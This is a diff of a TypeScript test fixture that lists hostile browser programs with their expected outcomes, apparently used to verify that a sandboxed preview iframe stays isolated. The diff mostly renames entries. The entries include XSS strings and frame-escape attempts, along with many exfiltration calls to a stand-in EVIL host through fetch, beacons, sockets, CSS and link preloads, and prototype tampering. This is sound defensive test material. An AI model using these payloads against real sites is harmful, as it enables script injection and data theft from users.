@@ -5,16 +5,16 @@ const link = (attributes: string): string =>
 const anchor = (attributes: string): string =>
   `const a = Object.assign(document.createElement('a'), ${attributes});\ndocument.body.append(a);\na.click();`;
 
-/** Programs that want something of the page, or to lead it away. */
-const TOWARDS_THE_PAGE: readonly HostileProgram[] = [
+/** Programs that attack the page or navigate it. */
+const AGAINST_THE_PAGE: readonly HostileProgram[] = [
   { name: "the page's document", code: 'parent.document.title;', outcome: /SecurityError/ },
   { name: "the top window's document", code: 'top.document.body.innerHTML = "owned";', outcome: /SecurityError/ },
   { name: "the page's storage", code: 'parent.localStorage.clear();', outcome: /SecurityError/ },
-  { name: 'storage that stays', code: "localStorage.setItem('theme-preference', 'dark');", outcome: 'shown' },
+  { name: 'localStorage', code: "localStorage.setItem('theme-preference', 'dark');", outcome: 'shown' },
   { name: 'cookies', code: "document.cookie = 'owned=1';", outcome: /SecurityError/ },
-  { name: 'a database', code: "indexedDB.open('owned');", outcome: /SecurityError/ },
+  { name: 'IndexedDB', code: "indexedDB.open('owned');", outcome: /SecurityError/ },
   {
-    name: 'a channel to other windows',
+    name: 'a BroadcastChannel',
     code: "new BroadcastChannel('patternbook').postMessage('owned');",
     outcome: 'shown'
   },
@@ -31,38 +31,38 @@ const TOWARDS_THE_PAGE: readonly HostileProgram[] = [
     code: "const field = document.createElement('input');\ndocument.body.append(field);\nfield.focus();",
     outcome: 'shown'
   },
-  { name: 'the whole screen', code: 'document.body.requestFullscreen();', outcome: 'shown' },
+  { name: 'full screen', code: 'document.body.requestFullscreen();', outcome: 'shown' },
   { name: 'a dialog', code: "alert('owned');\nconfirm('owned');\nprompt('owned');\nprint();", outcome: 'shown' },
   {
-    name: 'messages in the name of the site',
+    name: 'forged messages of the site',
     code: "parent.postMessage('patternbook:connect', '*');\nparent.postMessage({ kind: 'shown', run: 1 }, '*');",
     outcome: 'shown'
   },
   {
-    name: 'the port of the frame, for messages of its own',
+    name: "the frame's message port",
     code: "Object.defineProperty(MessageEvent.prototype, 'data', { get() { this.target.postMessage({ kind: 'height', height: 1e9 }); this.target.postMessage({ kind: 'console', run: 1, level: 'log', text: '<img src=x onerror=alert(1)>' }); this.target.postMessage({ kind: 'failed', run: 1, failure: { phase: 'load', message: { toString: 1 }, stack: 1 } }); return { kind: 'none' }; } });",
     outcome: 'shown or stopped'
   }
 ];
 
-/** Programs that want to leave, or to be somewhere else. */
-const AWAY: readonly HostileProgram[] = [
+/** Programs that navigate or open windows. */
+const NAVIGATION: readonly HostileProgram[] = [
   { name: 'its own address', code: "location.href = 'EVIL/location';", outcome: 'shown or stopped' },
   { name: 'its own address, replaced', code: "location.replace('EVIL/replace');", outcome: 'shown or stopped' },
   { name: 'its own address, on this site', code: "location.href = '/';", outcome: 'stopped' },
   {
-    name: 'a document of data',
+    name: 'a data: document',
     code: "location.href = 'data:text/html,<img src=EVIL/data>';",
     outcome: 'shown or stopped'
   },
   {
-    name: 'a document of a blob',
+    name: 'a blob: document',
     code: "location.href = URL.createObjectURL(new Blob(['<img src=EVIL/blob>'], { type: 'text/html' }));",
     outcome: 'shown or stopped'
   },
-  { name: 'a script as an address', code: "location.href = `javascript:fetch('EVIL/javascript')`;", outcome: 'shown' },
+  { name: 'a javascript: URL', code: "location.href = `javascript:fetch('EVIL/javascript')`;", outcome: 'shown' },
   {
-    name: 'a refresh',
+    name: 'a meta refresh',
     code: "const meta = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=EVIL/refresh' });\ndocument.head.append(meta);",
     outcome: 'shown or stopped'
   },
@@ -80,37 +80,37 @@ const AWAY: readonly HostileProgram[] = [
   { name: 'a window by a link', code: anchor("{ href: 'EVIL/blank', target: '_blank' }"), outcome: 'shown' },
   { name: 'a download', code: anchor("{ href: 'data:text/plain,owned', download: 'owned.txt' }"), outcome: 'shown' },
   {
-    name: 'its own end',
+    name: 'its own removal',
     code: 'window.close();\nwindow.stop();\ndocument.documentElement.remove();',
     outcome: 'shown or failed or stopped'
   },
   {
-    name: 'writing itself anew',
+    name: 'document.write()',
     code: "document.open();\ndocument.write('<img src=EVIL/write>');\ndocument.close();",
     outcome: /not available in previews/
   }
 ];
 
-/** Programs that want to tell another server something. */
-const OUT: readonly HostileProgram[] = [
-  { name: 'a request', code: "fetch('EVIL/fetch').catch(() => undefined);", outcome: 'shown' },
+/** Programs that send requests to another server. */
+const EXFILTRATION: readonly HostileProgram[] = [
+  { name: 'fetch()', code: "fetch('EVIL/fetch').catch(() => undefined);", outcome: 'shown' },
   {
-    name: 'a request of the old kind',
+    name: 'XMLHttpRequest',
     code: "const request = new XMLHttpRequest();\nrequest.open('GET', 'EVIL/xhr');\nrequest.send();",
     outcome: 'shown'
   },
-  { name: 'a beacon', code: "navigator.sendBeacon('EVIL/beacon', 'owned');", outcome: 'shown' },
-  { name: 'a socket', code: "new WebSocket('EVIL/socket'.replace('http', 'ws'));", outcome: 'shown' },
-  { name: 'a stream of events', code: "new EventSource('EVIL/events');", outcome: 'shown' },
-  { name: 'a picture', code: "new Image().src = 'EVIL/image';", outcome: 'shown' },
+  { name: 'sendBeacon()', code: "navigator.sendBeacon('EVIL/beacon', 'owned');", outcome: 'shown' },
+  { name: 'a WebSocket', code: "new WebSocket('EVIL/socket'.replace('http', 'ws'));", outcome: 'shown' },
+  { name: 'an EventSource', code: "new EventSource('EVIL/events');", outcome: 'shown' },
+  { name: 'an image', code: "new Image().src = 'EVIL/image';", outcome: 'shown' },
   {
-    name: 'pictures of many kinds',
+    name: 'SVG and media elements',
     code: "document.body.insertAdjacentHTML('beforeend', '<svg><image href=EVIL/svg></image><use href=EVIL/use#x></use></svg><video src=EVIL/video poster=EVIL/poster></video><input type=image src=EVIL/input><object data=EVIL/object></object><embed src=EVIL/embed>');",
     outcome: 'shown'
   },
   { name: 'a style sheet', code: link("{ rel: 'stylesheet', href: 'EVIL/sheet' }"), outcome: 'shown' },
   {
-    name: 'styles that load',
+    name: 'CSS resources',
     code: "document.head.insertAdjacentHTML('beforeend', '<style>@import \"EVIL/import\"; @font-face { font-family: x; src: url(EVIL/font) } body { font-family: x; background: url(EVIL/background); cursor: url(EVIL/cursor), auto }</style>');",
     outcome: 'shown'
   },
@@ -126,55 +126,55 @@ const OUT: readonly HostileProgram[] = [
     outcome: 'shown'
   },
   {
-    name: 'a frame',
+    name: 'an iframe',
     code: "document.body.append(Object.assign(document.createElement('iframe'), { src: 'EVIL/frame' }));",
     outcome: 'shown'
   },
   {
-    name: 'a frame with a text',
+    name: 'an iframe with srcdoc',
     code: "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<img src=EVIL/srcdoc>' }));",
     outcome: 'shown'
   },
   {
-    name: 'an empty frame to take functions from',
+    name: 'functions of an empty iframe',
     code: "const frame = document.body.appendChild(document.createElement('iframe'));\nframe.contentWindow.fetch('EVIL/inner');",
     outcome: /SecurityError|TypeError/
   },
   {
-    name: 'a connection between browsers',
+    name: 'WebRTC',
     code: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] });",
     outcome: /RTCPeerConnection is not defined/
   },
-  { name: 'a look-up of a name', code: link("{ rel: 'dns-prefetch', href: '//secret.example' }"), outcome: 'shown' },
-  { name: 'a connection ahead of time', code: link("{ rel: 'preconnect', href: 'EVIL' }"), outcome: 'shown' },
-  { name: 'a page ahead of time', code: link("{ rel: 'prefetch', href: 'EVIL/prefetch' }"), outcome: 'shown' },
+  { name: 'dns-prefetch', code: link("{ rel: 'dns-prefetch', href: '//secret.example' }"), outcome: 'shown' },
+  { name: 'preconnect', code: link("{ rel: 'preconnect', href: 'EVIL' }"), outcome: 'shown' },
+  { name: 'prefetch', code: link("{ rel: 'prefetch', href: 'EVIL/prefetch' }"), outcome: 'shown' },
   {
-    name: 'a part ahead of time',
+    name: 'preload',
     code: link("{ rel: 'preload', as: 'image', href: 'EVIL/preload' }"),
     outcome: 'shown'
   },
   {
-    name: 'a module ahead of time',
+    name: 'modulepreload',
     code: link("{ rel: 'modulepreload', href: 'EVIL/modulepreload' }"),
     outcome: 'shown'
   },
   {
-    name: 'a guess about the next page',
+    name: 'speculation rules',
     code: 'document.head.append(Object.assign(document.createElement(\'script\'), { type: \'speculationrules\', text: \'{"prefetch":[{"source":"list","urls":["EVIL/guess"]}]}\' }));',
     outcome: 'shown'
   },
-  { name: 'a ping of a link', code: anchor("{ href: '#', ping: 'EVIL/ping' }"), outcome: 'shown' },
+  { name: 'a link with ping', code: anchor("{ href: '#', ping: 'EVIL/ping' }"), outcome: 'shown' },
   {
-    name: 'a report of a policy',
+    name: 'a CSP report',
     code: "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"Content-Security-Policy\" content=\"img-src x; report-uri EVIL/report\">');\nnew Image().src = '/x.png';",
     outcome: 'shown'
   }
 ];
 
-/** Programs that use everything at once that could reach another server. */
-const ALL_AT_ONCE: readonly HostileProgram[] = [
+/** Programs that combine all ways to reach another server. */
+const COMBINED: readonly HostileProgram[] = [
   {
-    name: 'every element that loads',
+    name: 'every element that loads a resource',
     code: [
       "const sources = ['img', 'script', 'iframe', 'embed', 'video', 'audio', 'source', 'track', 'input', 'frame', 'bgsound'];",
       "for (const name of sources) document.body.append(Object.assign(document.createElement(name), { src: `EVIL/${name}`, type: 'image' }));",
@@ -184,17 +184,17 @@ const ALL_AT_ONCE: readonly HostileProgram[] = [
     outcome: 'shown or stopped'
   },
   {
-    name: 'a refresh and a base',
+    name: 'a meta refresh and a base URL',
     code: "document.head.insertAdjacentHTML('beforeend', '<base href=EVIL/base/><meta http-equiv=refresh content=\"0;url=refreshed\">');\nnew Image().src = 'relative.png';",
     outcome: 'shown or stopped'
   },
   {
-    name: 'documents written anew, with scripts',
+    name: 'document.write() with scripts',
     code: "document.open();\ndocument.write('<script src=EVIL/written></script><link rel=preconnect href=EVIL><img src=EVIL/image>');\ndocument.close();",
     outcome: /not available in previews/
   },
   {
-    name: 'inner frames with realms of their own',
+    name: 'iframes with their own realms',
     code: [
       "for (const source of ['about:blank', 'javascript:fetch(`EVIL/js`)', 'data:text/html,<script>fetch(`EVIL/data`)</script>', URL.createObjectURL(new Blob(['<script>fetch(`EVIL/blob`)</script>'], { type: 'text/html' }))]) {",
       "  const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { src: source }));",
@@ -205,18 +205,18 @@ const ALL_AT_ONCE: readonly HostileProgram[] = [
     outcome: 'shown or stopped'
   },
   {
-    name: 'HTML that React is told to trust, with everything',
+    name: 'dangerouslySetInnerHTML with everything',
     code: 'export const Example = () => <div dangerouslySetInnerHTML={{ __html: \'<link rel=preconnect href=EVIL><link rel=preload as=image href=EVIL/preload><meta http-equiv=refresh content="0;url=EVIL/refresh"><base href=EVIL/base><img src=EVIL/img onerror=alert(1)><svg onload=alert(1)><script>fetch(`EVIL/script`)</script></svg><iframe srcdoc="<script>fetch(`EVIL/srcdoc`)</script>"></iframe><form action=EVIL/form><button autofocus>go</button></form><a href=javascript:alert(1) id=a>a</a>\' }} />;',
     outcome: 'shown or stopped'
   }
 ];
 
-/** Programs that want the next example to be theirs. */
-const WITHIN: readonly HostileProgram[] = [
-  { name: 'code from a text', code: "new Function('return 1')();", outcome: /EvalError|unsafe-eval/ },
+/** Programs that manipulate the environment of the next example. */
+const TAMPERING: readonly HostileProgram[] = [
+  { name: 'new Function()', code: "new Function('return 1')();", outcome: /EvalError|unsafe-eval/ },
   { name: "the registry's React", code: 'patternbook.define({});\npatternbook.define = null;', outcome: /TypeError/ },
   {
-    name: 'what all objects inherit',
+    name: 'Object.prototype',
     code: "Object.prototype.kind = 'shown';\nObject.prototype.toString = null;\nArray.prototype.map = () => ['owned'];",
     outcome: 'failed or stopped'
   },
@@ -230,7 +230,7 @@ const WITHIN: readonly HostileProgram[] = [
     code: "import * as core from '@patternfly/react-core';\ncore.Button = () => 'owned';",
     outcome: /TypeError/
   },
-  { name: 'an error without a text', code: 'throw { toString() { throw null; } };', outcome: /has no text/ },
+  { name: 'an error without a message', code: 'throw { toString() { throw null; } };', outcome: /has no text/ },
   {
     name: 'an error with markup',
     code: "throw new Error('<img src=EVIL/error onerror=alert(1)>');",
@@ -238,5 +238,11 @@ const WITHIN: readonly HostileProgram[] = [
   }
 ];
 
-/** Programs that want out of their frame. */
-export const ESCAPES: readonly HostileProgram[] = [...TOWARDS_THE_PAGE, ...AWAY, ...OUT, ...ALL_AT_ONCE, ...WITHIN];
+/** All programs that try to escape from the frame. */
+export const ESCAPES: readonly HostileProgram[] = [
+  ...AGAINST_THE_PAGE,
+  ...NAVIGATION,
+  ...EXFILTRATION,
+  ...COMBINED,
+  ...TAMPERING
+];
